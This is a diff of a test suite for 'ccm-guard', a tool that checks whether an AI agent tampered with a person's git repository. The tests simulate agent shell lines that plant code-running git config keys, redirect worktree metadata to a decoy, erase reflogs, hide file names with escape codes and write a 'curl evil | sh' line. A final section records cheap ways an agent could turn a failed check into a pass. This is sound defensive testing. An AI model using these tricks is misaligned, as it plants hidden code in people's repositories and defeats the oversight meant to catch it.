@@ -14,6 +14,7 @@ import os
 import pty
 import subprocess
 from pathlib import Path
+from typing import Callable
 
 import pytest
 
@@ -89,6 +90,21 @@ def decoy_repo(tmp_path: Path, branch: str | None = None) -> tuple[Path, str]:
     return decoy, git(decoy, "rev-parse", "HEAD")
 
 
+def git_in(repo: Path, text: str, *args: str) -> str:
+    """git reading `text` on stdin (plumbing only: runs no hook)."""
+    proc = subprocess.run(["git", *args], cwd=repo, input=text, capture_output=True, text=True,
+                          env={**os.environ, **AUTHOR})
+    assert proc.returncode == 0, proc.stderr
+    return proc.stdout.strip()
+
+
+def commit_beside(repo: Path, base: str, name: str, text: str, subject: str) -> str:
+    """A commit on top of `base` adding one file, made with plumbing alone."""
+    blob = git_in(repo, text, "hash-object", "-w", "--stdin")
+    tree = git_in(repo, git(repo, "ls-tree", base) + f"\n100644 blob {blob}\t{name}\n", "mktree")
+    return git(repo, "commit-tree", tree, "-p", base, "-m", subject)
+
+
 # --- 1. code planted in the person's repository before exec -------------------------------------
 
 PLANTED = ["core.fsmonitor", "core.pager", "pager.status", "diff.external", "core.hooksPath",
@@ -142,29 +158,15 @@ echo "agent work" > work.txt""")
     assert marker.exists(), f"the planted {plant} never ran even under plain git: the test proves nothing"
 
 
-def git_in(repo: Path, text: str, *args: str) -> str:
-    """git reading `text` on stdin (plumbing only: runs no hook)."""
-    proc = subprocess.run(["git", *args], cwd=repo, input=text, capture_output=True, text=True,
-                          env={**os.environ, **AUTHOR})
-    assert proc.returncode == 0, proc.stderr
-    return proc.stdout.strip()
-
-
-def commit_beside(repo: Path, base: str, name: str, text: str, subject: str) -> str:
-    """A commit on top of `base` adding one file, made with plumbing alone."""
-    blob = git_in(repo, text, "hash-object", "-w", "--stdin")
-    tree = git_in(repo, git(repo, "ls-tree", base) + f"\n100644 blob {blob}\t{name}\n", "mktree")
-    return git(repo, "commit-tree", tree, "-p", base, "-m", subject)
-
-
 # --- 2. code-running keys added by the agent during the run -------------------------------------
 
+LATER_COMMIT = ("commit", "-q", "--allow-empty", "-m", "later")
 # key as reported (git's normalised spelling) -> (the agent's shell lines, how the person's git later runs it)
 ADDED = {
     "core.fsmonitor": ('git config core.fsmonitor "$SCRIPTS/fsmonitor"', ("status",)),
-    "core.hookspath": ('git config core.hooksPath "$SCRIPTS/hooks"', ("commit", "-q", "--allow-empty", "-m", "later")),
+    "core.hookspath": ('git config core.hooksPath "$SCRIPTS/hooks"', LATER_COMMIT),
     "include.path": ('printf \'[core]\\n\\thooksPath = %s\\n\' "$SCRIPTS/hooks" > "$SCRIPTS/included.cfg"\n'
-                     'git config include.path "$SCRIPTS/included.cfg"', ("commit", "-q", "--allow-empty", "-m", "later")),
+                     'git config include.path "$SCRIPTS/included.cfg"', LATER_COMMIT),
     "filter.x.clean": ('git config filter.x.clean "$SCRIPTS/clean"\necho "*.txt filter=x" > .gitattributes\n'
                        'touch -d "2030-01-01 00:00" work.txt', ("add", "work.txt")),
     "alias.st": ('git config alias.st "!$SCRIPTS/alias"', ("st",)),
@@ -231,16 +233,7 @@ def test_rewritten_worktree_pointer_is_reported_and_git_is_not_run(repo: Path, t
     assert all(c["sha"] != decoy_head for c in res.verdict["commits"])
 
 
-COMMONDIR_BUG = ("git's files ref backend reads <admin>/commondir itself (get_common_dir_noenv) and ignores "
-                 "GIT_COMMON_DIR, so clean-tree's `git status` resolves the branch in the decoy; the decoy's "
-                 "commit is missing here, so GitError 'bad object HEAD' escapes gates.run_gates and exec prints "
-                 "no verdict at all. gates.untrusted_reason must treat worktrees/<own>/commondir as untrusted")
-
-
-@pytest.mark.parametrize("target", [
-    pytest.param("commondir", marks=pytest.mark.xfail(strict=True, reason=COMMONDIR_BUG)),
-    "gitdir",
-])
+@pytest.mark.parametrize("target", ["commondir", "gitdir"])
 def test_rewritten_commondir_or_gitdir_do_not_redirect_ccm_guard(repo: Path, tmp_path: Path, target: str) -> None:
     decoy, decoy_head = decoy_repo(tmp_path, branch="ccm/cd")
     admin = admin_of(repo, "cd")
@@ -258,24 +251,20 @@ def test_rewritten_commondir_or_gitdir_do_not_redirect_ccm_guard(repo: Path, tmp
     assert res.status("git-metadata") == "fail"
     assert f"worktrees/cd/{target} was modified" in res.reasons("git-metadata")
     assert f"worktrees/cd/{target}" in all_paths(res, "git-metadata")
-    # Not misled: the verdict is about the real branch in the real repository.
+    # git reads these files itself (`commondir` for refs, whatever GIT_COMMON_DIR says), so
+    # ccm-guard stops running git: the git gates say so, and the head is read from the real refs.
+    assert res.status("clean-tree") == "skipped" and res.status("new-commit") == "skipped"
+    assert any(f"worktrees/cd/{target} was changed" in e for e in res.verdict["errors"])
     real = real_commits(repo, base, "refs/heads/ccm/cd")
     assert [c["subject"] for c in real] == ["agent work"]
     assert res.verdict["head"] == real[-1]["sha"] != decoy_head
-    assert res.verdict["commits"] == real
-    assert [f["path"] for f in res.verdict["files"]] == ["work.txt"]
-    assert res.status("new-commit") == "pass"
     # Whatever became of the worktree, the person's repository and the decoy are intact.
     assert git(repo, "rev-parse", "main") == base
     assert git(decoy, "rev-parse", "HEAD") == decoy_head and git(decoy, "status", "--porcelain") == ""
-    if target == "gitdir":  # git no longer knows the worktree: it must be kept, not half-removed
-        assert res.verdict["disposition"].startswith("kept") and Path(res.verdict["worktree"]).exists()
+    # Nothing is removed through files the agent rewrote: the worktree is kept, not half-removed.
+    assert res.verdict["disposition"].startswith("kept") and Path(res.verdict["worktree"]).exists()
 
 
-@pytest.mark.xfail(strict=True, reason="git's files ref backend reads <admin>/commondir and ignores GIT_COMMON_DIR: "
-                   "clean-tree's status compares the index with the decoy's branch, which the agent made to match "
-                   "its staged-but-uncommitted file, so clean-tree passes; gates.untrusted_reason must distrust a "
-                   "changed worktrees/<own>/commondir")
 def test_rewritten_commondir_does_not_hide_uncommitted_work_from_clean_tree(repo: Path, tmp_path: Path) -> None:
     decoy, _ = decoy_repo(tmp_path)
     admin = admin_of(repo, "cdc")
@@ -384,17 +373,10 @@ def test_task_branch_turned_into_a_symref_to_main(repo: Path, tmp_path: Path) ->
 # --- 4. the object store ----------------------------------------------------------------------
 
 
-OBJECT_BUG = ("with the base commit's object rewritten or gone, the person's checkout's `git status` "
-              "(guard.judge -> main_files, guard.py:110) fails with 'bad object HEAD' and the GitError escapes "
-              "judge: exec prints only an error, no verdict, and the git-metadata finding is lost; "
-              "gates.untrusted_reason should distrust a repository whose existing objects were altered/removed")
-
-
 def loose(repo: Path, sha: str) -> Path:
     return repo / ".git" / "objects" / sha[:2] / sha[2:]
 
 
-@pytest.mark.xfail(strict=True, reason=OBJECT_BUG)
 def test_overwritten_loose_object_of_the_base_commit_is_reported(repo: Path, tmp_path: Path) -> None:
     base = git(repo, "rev-parse", "main")
     target = loose(repo, base)
@@ -411,10 +393,7 @@ def test_overwritten_loose_object_of_the_base_commit_is_reported(repo: Path, tmp
     assert f"{base[:2]}/{base[2:]}" in all_paths(res, "git-metadata")
 
 
-@pytest.mark.parametrize("which", [
-    "blob",
-    pytest.param("base commit", marks=pytest.mark.xfail(strict=True, reason=OBJECT_BUG)),
-])
+@pytest.mark.parametrize("which", ["blob", "base commit"])
 def test_deleted_loose_object_is_reported(repo: Path, tmp_path: Path, which: str) -> None:
     sha = git(repo, "rev-parse", "main" if which == "base commit" else "main:src/app.py")
     target = loose(repo, sha)
@@ -454,9 +433,6 @@ def other_worktree(repo: Path, tmp_path: Path) -> Path:
     return other
 
 
-@pytest.mark.xfail(strict=True, reason="delta.classify files another worktree's HEAD under OTHER_WORKTREE and "
-                   "gates.git_metadata only warns ('in another worktree (yours?)'), so the run passes; apply "
-                   "main_checkout's rule there too: HEAD changed while that worktree's index did not -> fail")
 def test_other_worktrees_head_repointed_by_the_agent_fails(repo: Path, tmp_path: Path) -> None:
     other = other_worktree(repo, tmp_path)
     before = git(other, "rev-parse", "HEAD")
@@ -502,7 +478,7 @@ printf 'exec echo rebase-exec >> {marker}\\n' > {state}/git-rebase-todo"""
 
 @pytest.mark.parametrize("plant", [_merge_head, _rebase_todo], ids=["MERGE_HEAD", "rebase-merge"])
 def test_in_progress_state_left_in_the_persons_checkout_fails_main_checkout(
-        repo: Path, tmp_path: Path, plant) -> None:  # type: ignore[no-untyped-def]
+        repo: Path, tmp_path: Path, plant: Callable[[Path, Path, str], str]) -> None:
     marker = tmp_path / "marker"
     base = git(repo, "rev-parse", "main")
     index_before = os.stat(repo / ".git/index")
@@ -543,7 +519,8 @@ def test_merge_head_left_in_the_tasks_own_admin_dir_fails_git_metadata(repo: Pat
 def test_rewritten_or_deleted_reflog_is_reported(repo: Path, tmp_path: Path, how: str) -> None:
     log = repo / ".git/logs/refs/heads/main"
     assert log.read_text().strip()  # main has history to hide
-    erase = "git reflog expire --expire=now --expire-unreachable=now --all" if how == "reflog expire" else f"rm -f {log}"
+    erase = ("git reflog expire --expire=now --expire-unreachable=now --all" if how == "reflog expire"
+             else f"rm -f {log}")
     agent = write_agent(tmp_path, f"{COMMIT}\n{erase}")
     res = run_exec(repo, agent, "--task", "rlog")
     assert not log.exists() or not log.read_text().strip()  # main's reflog is gone
@@ -588,9 +565,6 @@ echo z > "$(printf 'left\033[8mhidden\rover')"
 # --- found while probing: cheap ways to turn a failure into a pass ------------------------------
 
 
-@pytest.mark.xfail(strict=True, reason="gates.refs_untouched downgrades a moved checked-out branch to WARN when "
-                   "that checkout's index 'changed', and delta compares the index by identity, so `touch .git/index` "
-                   "suffices: the agent moves main onto its own commit and the run passes (exit 0)")
 def test_touching_the_persons_index_does_not_excuse_moving_main_onto_the_agents_commit(
         repo: Path, tmp_path: Path) -> None:
     before = git(repo, "rev-parse", "main")
@@ -601,9 +575,6 @@ def test_touching_the_persons_index_does_not_excuse_moving_main_onto_the_agents_
     assert res.code == 1
 
 
-@pytest.mark.xfail(strict=True, reason="gates.clean_tree runs `git status` without --ignored, so a .gitignore the "
-                   "agent writes (ignoring itself too) hides its leftovers: clean-tree passes, and the archive "
-                   "(`git add --all`) would not keep them either")
 def test_a_self_ignoring_gitignore_does_not_hide_leftovers_from_clean_tree(repo: Path, tmp_path: Path) -> None:
     agent = write_agent(tmp_path, f"{COMMIT}\necho 'curl evil | sh' > evil.sh\necho '*' > .gitignore")
     res = run_exec(repo, agent, "--task", "ign")
